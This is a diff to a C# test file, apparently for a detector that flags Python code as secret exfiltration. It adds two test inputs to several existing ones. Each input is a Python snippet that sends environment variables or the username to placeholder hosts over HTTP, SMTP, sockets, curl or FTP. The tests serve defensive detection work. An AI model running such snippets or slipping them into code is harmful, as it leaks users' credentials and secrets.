@@ -46,6 +46,8 @@ public sealed class TechniqueFamilyTests
     [InlineData("import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(os.environ))\nwith smtplib.SMTP('mail.x.invalid') as s:\n    s.send_message(m)\n")]
     [InlineData("import socket, os\ns = socket.create_connection(('192.0.2.1', 9))\ns.sendall(repr(dict(os.environ)).encode())\n")]
     [InlineData("import os\nos.system('curl -s -d \"$(env)\" http://x.invalid/e')\n")]
+    [InlineData("import os, urllib.request\nurllib.request.urlopen(f'http://x.invalid/c?d={dict(os.environ)}')\n")]
+    [InlineData("import getpass, requests\nwho = getpass.getuser()\nrequests.get(f'http://x.invalid/c?u={who}')\n")]
     [InlineData("import ftplib, io, os\nf = ftplib.FTP('ftp.x.invalid')\nf.storbinary('STOR e', io.BytesIO(str(os.environ).encode()))\n")]
     public async Task Secrets_sent_over_any_channel_are_exfiltration(string init)
     {
